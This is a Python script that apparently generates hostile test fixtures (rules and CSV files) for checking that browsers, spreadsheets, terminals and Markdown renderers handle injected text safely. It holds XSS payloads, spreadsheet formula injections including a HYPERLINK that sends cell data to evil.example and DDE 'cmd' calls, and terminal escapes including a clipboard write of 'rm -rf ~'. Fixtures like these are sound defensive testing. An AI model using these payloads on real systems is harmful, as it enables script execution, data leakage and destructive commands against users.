"""A hostile world: every text has sequences that a browser, a spreadsheet, a terminal or a reader
of Markdown or XML could take for its own.

    hostile_world.py FOLDER    writes rules, data, waivers there"""

import csv
import pathlib
import sys

BROWSER = [
    "<script>window.broken = 1</script>", "</script><script>window.broken = 1</script>", "<!-- <script>",
    '"><img src=x onerror="window.broken = 1">', "'><svg onload='window.broken = 1'>", "]]><b>bold</b>",
    "javascript:window.broken=1", "data:text/html,<script>window.broken=1</script>", "</title></style></textarea>",
    "&lt;script&gt;", "\\u003cscript\\u003e", "{{verdicts}} {{script}} {{policy}}", "${window.broken = 1}",
]
SPREADSHEET = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1-1", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "=1+1;=2+2", "a;=1+1;b", 'a;"=1+1;b', "a; -1-1;b",
    "a\t@SUM(A1)\tb", "a\n+1+1\nb", "_x001B_", "x" * 300,
]
TERMINAL = [
    "\x1b[2J\x1b[31m", "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x9b2J", "\x9d0;title\x9c",
    "line\rover it", "back\x08\x08\x08\x08", "\x07", "\x0b\x0c", "\x7f", "\x85", "\x01\x02\x03\x04", "\u202eevil\u202c", "\u2066evil\u2069",
    "\u200f\u200e\u061c", "\u2028\u2029", "\u200b\ufeff", "\ufffe\uffff", "error: forged\nerror: forged", "wide 減少 ́́́",
]
MARKDOWN = [
    "[click](javascript:window.broken=1)", "![picture](http://evil.example/x.png)", "<http://evil.example>", "# heading", "| a | b |",
    "```\nend of code\n```", "`code`", "*[_~~bold~~_]*", "[^1]: forged", "1. one", "- one", "> quoted", "---", "$x$", "&copy;", "\\<b>",
    "<b>bold</b>{=html}", "`<b>`{=html}", "<div onclick=\"window.broken = 1\">", "[a]: javascript:window.broken=1\n[a]", ":::{onclick=x}",
    "<!--", "--> <script>window.broken = 1</script>", "<!-- --> <b>", "`<!--`", "<?php", "<![CDATA[", "~~~", "x^[forged]^ y^2^", "@cited [@cited]",
    ": a definition", "+ one", "(1) one", "iv) one", "% a title", "\\begin{forged}", "    code", "a... -- --- b", "| a\n|---\n| b", "Title\n====",
]
HARM = BROWSER + SPREADSHEET + TERMINAL + MARKDOWN


# Texts that count as empty, so that they are no values.
NO_VALUE = ["\u200f\u200e\u061c", "\x0b\x0c", "\x85", "\u2028\u2029", "\u200b\ufeff", "---"]


def as_value(text):
    return "of " + text if text in NO_VALUE else text


def quoted(text):
    """The text as a literal of the rules."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def rules():
    """Puts each of them once into every text of every declaration."""
    lines = ["language 1", f"pack hostile {{ title {quoted(BROWSER[0])} zh {quoted(BROWSER[3])} cites {quoted(TERMINAL[0])} note {quoted(MARKDOWN[0])} }}",
             f"unit thing {quoted(TERMINAL[1])}", f"group all {quoted(TERMINAL[2])} {{",
             "  members " + " ".join(f"S{i}" for i in range(len(HARM))), f"  cites {quoted(BROWSER[1])} at {quoted(SPREADSHEET[0])}", "}",
             f"cycle C1 {quoted(TERMINAL[3])} from 2020-01-01 to 2024-12-31",
             f"choice level {quoted(BROWSER[2])} {{ low high }}",
             f"event meeting {quoted(TERMINAL[12])} {{ on date  place text }}",
             "indicator wording text lasting " + quoted(MARKDOWN[1]),
             f"index total {quoted(TERMINAL[4])} {{ of theme hostile.* }}"]
    for i, text in enumerate(HARM):
        harm, in_sentence = quoted(text), quoted(text.replace("{", "").replace("}", ""))
        lines += [f"state S{i} {harm} ar {harm}", f"group g{i} {harm} {{ members S{i} S{(i - 1) % len(HARM)} }}", f"indicator said{i} truth per cycle {harm} zh {harm}",
                  f"indicator amount{i} quantity of thing per cycle {harm}",
                  f"commitment {i} {{", f"  title {harm} zh {harm}", f"  cites {harm} at {harm}", "  theme hostile.texts",
                  f"  binds each g{i}", "  review each cycle from C1",
                  f"  applies when wording is not reported or wording != {harm} else {harm}" if i % 3 == 0 else "",
                  f"  met when said{i} and wording != {harm} and (amount{i} or else 1 thing because {harm}) > 0 thing"
                  + (f" and (no m in meeting where m.place = {harm})" if i % 3 == 1 else ""),
                  "  score out of 1 { 1 when said%d; 0 otherwise }" % i, f"  note {harm}", f"  asks {in_sentence} zh {in_sentence}", f"  says {in_sentence}", "}"]
    return "\n".join(lines) + "\n"


def facts():
    """Puts each text into each column of texts; a quarter of the subjects is silent, so that there
    are questions."""
    head = ["subject", "indicator", "cycle", "value", "missing", "basis", "document", "paragraph", "page", "quotation", "language",
            "coder", "confidence", "known_from", "note"]
    rows = [head]
    for i, text in enumerate(HARM):
        said = [(f"said{i}", "no"), (f"said{(i + 1) % len(HARM)}", "yes")] if i % 4 else []
        for indicator, value in (*said, ("wording", as_value(text))):
            rows.append([f"S{i}", indicator, "C1", value, "", "national_report", *[text] * 4, "en", text, text, "2024-01-01", text])
    rows[2][9] = "=" + "y" * 40_000  # more than a cell of a workbook holds
    return rows


def events():
    return [["event", "on", "place", "basis", "document", "quotation", "note"],
            *(["meeting", "2021-01-01", as_value(text), "independent", text, text, text] for text in HARM)]


def waivers():
    return [["commitment", "subject", "cycle", "reason", "decided_by", "expires"],
            *([f"hostile.{i}", f"S{i}", "C1", text, text, "2030-01-01"] for i, text in enumerate(HARM) if text.strip() and text not in NO_VALUE)]


def write(folder):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "hostile.pacta").write_text(rules(), encoding="utf-8", newline="")
    for name, rows in (("facts", facts()), ("events", events()), ("waivers", waivers())):
        with open(folder / f"{name}.csv", "w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(rows)


if __name__ == "__main__":
    write(pathlib.Path(sys.argv[1]))
